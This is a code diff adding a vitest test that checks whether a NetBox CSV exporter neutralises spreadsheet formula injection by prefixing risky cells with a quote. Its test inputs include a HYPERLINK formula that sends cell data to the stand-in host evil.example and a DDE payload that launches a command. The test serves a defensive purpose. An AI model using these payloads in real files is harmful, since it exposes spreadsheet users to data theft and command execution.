@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { formatAddressesCsv, formatPrefixesCsv, formatVlansCsv, parseAddressesCsv, parsePrefixesCsv, parseVlansCsv } from "./netbox-csv";
 
@@ -43,5 +44,40 @@ describe("NetBox CSV", () => {
     const csv = formatAddressesCsv(addresses.map((a) => ({ ...a, maskLength: 24 })));
     expect(csv.split("\n")[1]).toMatch(/^10\.120\.0\.5\/24,deprecated,db-1,/);
     expect(parseAddressesCsv(csv)).toEqual(addresses);
+  });
+
+  it("exports user-typed cells a spreadsheet would run as formulas with a leading quote", () => {
+    const hostname = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
+    const addresses = formatAddressesCsv([
+      {
+        address: "10.121.0.5",
+        status: "active",
+        hostname,
+        vmid: 2104,
+        mac: null,
+        vlanVid: 121,
+        ownerTeam: "@ops",
+        service: "+cmd|' /C calc'!A0",
+        sourceRef: "-import",
+        maskLength: 24,
+      },
+    ]);
+    const [row] = parse(addresses, { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      address: "10.121.0.5/24",
+      dns_name: `'${hostname}`,
+      description: "'+cmd|' /C calc'!A0",
+      cf_vmid: "2104",
+      cf_vlan: "121",
+      cf_owner_team: "'@ops",
+      cf_source_ref: "'-import",
+    });
+    const [vlan] = parse(formatVlansCsv([{ vid: 121, name: "=1+1", status: "current", description: "\t=2", environment: "-prod" }]), { columns: true });
+    expect(vlan).toEqual({ vid: "121", name: "'=1+1", status: "active", description: "'\t=2", cf_environment: "'-prod" });
+    const [prefix] = parse(
+      formatPrefixesCsv([{ prefix: "10.121.0.0/24", vid: 121, description: "@SUM(A1)", gateway: null, environment: null, routingNotes: "\r=3" }]),
+      { columns: true },
+    );
+    expect(prefix).toMatchObject({ prefix: "10.121.0.0/24", vlan: "121", description: "'@SUM(A1)", cf_routing_notes: "'\r=3" });
   });
 });
